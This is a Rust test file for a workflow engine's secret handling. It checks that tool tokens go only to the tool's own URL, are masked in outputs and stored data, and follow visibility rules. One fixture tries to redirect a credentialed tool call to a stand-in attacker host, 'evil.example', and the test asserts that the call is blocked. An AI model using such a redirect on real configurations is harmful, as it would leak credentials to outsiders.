//! Secrets and credentials: sent, and kept nowhere.

use super::*;

#[test]
fn what_logs_in_at_a_tool_is_in_nothing_that_is_kept() {
    pollster::block_on(async {
        let world = World::new(json!([])).await;
        let tool = world
            .tool(
                "webhook",
                json!({ "url": "https://r.example/base", "token": "s3cr3t-token" }),
            )
            .await;
        let step = hook(
            "a",
            json!({ "toolConfigId": tool, "path": "x", "outputs": { "echo": "" } }),
        );
        let elsewhere = hook(
            "b",
            json!({ "toolConfigId": tool, "url": "https://evil.example/" }),
        );
        let id = world.pipeline(json!([step, elsewhere])).await;
        let world = World { id, ..world };
        world.start("ann", json!({})).await;
        let net = net(|request| {
            let sent = request
                .headers
                .iter()
                .find(|(name, _)| name == "authorization");
            answer(
                200,
                json!({ "you sent": sent.map(|(_, value)| value) }).to_string(),
            )
        });
        world.work(&net).await;
        let sent = net.sent.borrow().clone();
        assert_eq!(sent.len(), 1, "a tool's login goes to the tool alone");
        assert_eq!(sent[0].url, "https://r.example/base/x");
        assert!(
            sent[0]
                .headers
                .contains(&("authorization".into(), "Bearer s3cr3t-token".into()))
        );
        assert_eq!(
            world.outputs(0).await,
            json!({ "echo": { "you sent": "Bearer ***" } })
        );
        let kept = world.everything_kept().await;
        assert!(!kept.contains("s3cr3t"), "{kept}");
    });
}

/// As workflows do: hidden ones of the account, and of private ones their own.
#[test]
fn a_step_sends_a_secret_that_its_user_may_use_and_keeps_none_of_it() {
    pollster::block_on(async {
        for (visibility, creator, error) in [
            ("tenant", "bob", None),
            ("private", "ann", None),
            ("private", "bob", Some("There is no secret `key`")),
        ] {
            let secret = hook(
                "a",
                json!({ "url": "https://r.example/", "headers": { "x": "{{ secrets.key }}" } }),
            );
            let world = World::new(json!([secret])).await;
            let value = windlass_store::secrets::seal(&json!("to-be-or-not"))
                .await
                .unwrap();
            let insert = "insert into secrets (id, tenant_name, created_by, visibility, created_at, updated_at,
                              value, is_hidden_value) values ('key', 'harbour', ?1, ?2, '', '', ?3, 1)";
            let row = params![creator, visibility, value.as_str()];
            world.db.execute(insert, row).await.unwrap();
            world.start("ann", json!({})).await;
            // The receiver repeats what it was sent, and refuses it.
            let sent = RefCell::new(Vec::new());
            let net = net(|request| {
                let headers = request
                    .headers
                    .iter()
                    .map(|(name, value)| format!("{name}={value}"));
                sent.borrow_mut()
                    .push(headers.collect::<Vec<_>>().join(" "));
                answer(400, "no: to-be-or-not")
            });
            world.work(&net).await;
            let was_sent = sent
                .borrow()
                .iter()
                .any(|headers| headers.contains("x=to-be-or-not"));
            assert_eq!(was_sent, error.is_none(), "{visibility} {creator}");
            let steps = world.steps().await;
            let told = steps[0].2.as_deref().unwrap();
            assert!(!told.contains("to-be-or-not"), "{told}");
            if let Some(error) = error {
                assert_eq!(told, error);
            }
            let read =
                "select count(*) from audit_log where action = 'secret_get' and username = 'ann'";
            let read = world.db.first(read, &[]).await.unwrap().unwrap();
            assert_eq!(read.integer(0).unwrap() > 0, error.is_none());
        }
    });
}

#[test]
fn secrets_that_are_not_there_and_users_who_are_gone_fail_the_step() {
    pollster::block_on(async {
        let secret = hook(
            "a",
            json!({ "url": "https://r.example/", "headers": { "x": "{{ secrets.key }}" } }),
        );
        let world = World::new(json!([secret])).await;
        world.start("ann", json!({})).await;
        let net = net(|_| answer(200, ""));
        world.work(&net).await;
        assert_eq!(
            world.steps().await[0].2.as_deref(),
            Some("There is no secret `key`")
        );
        world.start("ann", json!({})).await;
        world
            .db
            .execute("update users set active = 0 where username = 'ann'", &[])
            .await
            .unwrap();
        world.work(&net).await;
        let error = "select error from pipeline_steps order by key desc limit 1";
        let error = world.db.first(error, &[]).await.unwrap().unwrap();
        assert!(
            error.text(0).unwrap().contains("there is no such user"),
            "{error:?}"
        );
    });
}
